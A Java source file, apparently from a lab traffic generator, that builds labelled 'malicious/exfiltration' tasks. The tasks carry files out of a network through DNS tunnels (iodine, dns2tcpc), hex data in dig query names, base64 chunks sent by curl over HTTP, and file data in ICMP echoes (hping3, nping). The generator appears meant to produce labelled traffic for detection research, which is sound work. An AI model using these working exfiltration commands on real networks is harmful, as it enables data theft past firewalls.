package org.ldpi.lab.plan;

import java.util.List;

/** Files carried out of the network in traffic that is allowed. */
final class Exfiltration {
    private static final int LIMIT_SECONDS = 60;

    static final List<Recipe> ALL = List.of(
            new Recipe("dns-tunnel", List.of("dns", "iodine"), List.of("iodine"), Exfiltration::iodine),
            new Recipe("dns-tunnel-tcp", List.of("dns", "dns2tcp"), List.of("dns2tcpc"), Exfiltration::dns2tcp),
            new Recipe("dns-upload", List.of("dns"), List.of("dig"), Exfiltration::queries),
            new Recipe("http-upload", List.of("http"), List.of("curl"), Exfiltration::pieces),
            new Recipe("icmp-upload", List.of(), List.of("hping3", "nping"), Exfiltration::echoes));

    private Exfiltration() {}

    private static String file(Draw draw) {
        return "\"$LAB/share/files/" + draw.oneOf(draw.site().files()).path() + '"';
    }

    /** IP over DNS, through the resolver everybody uses; {@code size} is in echoes and pieces sent inside. */
    private static Task iodine(Draw draw) {
        Draw.Endpoint resolver = draw.service("dns");
        String address = resolver.host().ip4();
        String gateway = Tunnels.GATEWAY;
        // Only port 53 can be told to iodine, which is where everybody's resolver is.
        String script = "iodine -f -r -d dns0 -P " + Tunnels.PASSWORD + " -T " + draw.oneOf("NULL", "TXT", "CNAME")
                + " -I 1 " + address + " " + Tunnels.iodineDomain(draw.site().zone())
                + " & tunnel=$!; for wait in 1 2 3 4 5 6 7 8 9 10; do sleep 1; ip addr show dev dns0 2> /dev/null |"
                + " grep -q inet && break; done; ping -n -c " + draw.size() + " -i 0.2 -s " + draw.between(200, 700)
                + " " + gateway + " > /dev/null; kill $tunnel; wait";
        return new Task(Tunnels.LABEL, "iodine", address, "" + resolver.port(), LIMIT_SECONDS, script);
    }

    /** TCP over DNS, through the resolver everybody uses; {@code size} is in kilobytes. */
    private static Task dns2tcp(Draw draw) {
        Draw.Endpoint resolver = draw.service("dns");
        String address = resolver.host().ip4();
        int local = draw.between(20_000, 29_000);
        String script = "dns2tcpc -z " + Tunnels.dns2tcpDomain(draw.site().zone()) + " -k " + Tunnels.PASSWORD
                + " -r web -l " + local + " -T " + draw.oneOf("TXT", "KEY") + " " + address + " & tunnel=$!; sleep 2; "
                + "head -c " + draw.size() + "000 /dev/urandom > out.dat; curl -s -m 50 -o /dev/null -T out.dat"
                + " http://127.0.0.1:" + local + "/upload & sleep 3; ss -Huanp | grep -c dns2tcpc"
                + " | sed 's/^/sockets opened: /'; wait $!; kill $tunnel; wait";
        return new Task(Tunnels.LABEL, "dns2tcpc", address, "" + resolver.port(), LIMIT_SECONDS, script);
    }

    /** A file in the names of queries, {@code size} of them. */
    private static Task queries(Draw draw) {
        Draw.Endpoint resolver = draw.service("dns");
        String address = resolver.host().ip4();
        int bytes = draw.between(20, 60);
        String script = "head -c 300000 " + file(draw) + " | od -An -v -tx1 -w" + bytes + " | tr -d ' ' | head -n "
                + draw.size() + " | { n=0; while read -r piece; do dig +short +tries=1 +time=1 -p " + resolver.port()
                + " @" + address + " $n.$(echo $piece | sed -E 's/(.{60})/\\1./g; s/\\.$//')."
                + draw.site().zone() + " " + draw.oneOf("A", "TXT") + " > /dev/null; n=$((n + 1));"
                + " echo \"sockets opened: $n\" > report; sleep 0.0" + draw.between(1, 9) + "; done; }";
        return new Task(
                "malicious/exfiltration/dns_upload", "dig", address, "" + resolver.port(), LIMIT_SECONDS, script);
    }

    /** A file in many small requests, {@code size} of them. */
    private static Task pieces(Draw draw) {
        Draw.Endpoint server = draw.service("http");
        String target = server.host().ip4();
        int bytes = draw.between(100, 1200);
        String script = "head -c 800000 " + file(draw) + " > out.dat; n=0; while [ $n -lt " + draw.size()
                + " ]; do dd if=out.dat bs=" + bytes + " skip=$n count=1 2> /dev/null | base64 -w0 > piece; "
                + "curl -s -m 5 -o /dev/null -w '%{num_connects}\\n' "
                + (draw.chance(0.5) ? "-d @piece" : "-X PUT -H \"X-Part: $n\" --data-binary @piece") + " http://"
                + target + ":" + server.port() + "/login?id=$n; n=$((n + 1)); sleep 0.0" + draw.between(1, 9)
                + "; done | awk '{n += $1; print \"connections opened: \" n; fflush()}'";
        return new Task(
                "malicious/exfiltration/http_upload", "curl", target, "" + server.port(), LIMIT_SECONDS, script);
    }

    /** A file in the data of echo requests, {@code size} of them. */
    private static Task echoes(Draw draw) {
        String target = draw.server().ip4();
        int bytes = draw.between(60, 800);
        String script = draw.tool().equals("nping")
                ? "nping -q --icmp --send-ip --ttl " + draw.client().ttl() + " --rate " + draw.between(5, 30) + " -c "
                        + draw.size() + " --data $(head -c " + bytes + " " + file(draw)
                        + " | od -An -v -tx1 | tr -d ' \\n') " + target
                : "timeout -s INT 50 hping3 -q -n --icmp -t " + draw.client().ttl() + " -i u"
                        + draw.between(20_000, 200_000) + " -c " + draw.size() + " -d " + bytes + " --file "
                        + file(draw) + " " + target + " > /dev/null";
        return new Task(
                "malicious/exfiltration/icmp_upload", draw.toolOr("hping3"), target, "-", LIMIT_SECONDS, script);
    }
}
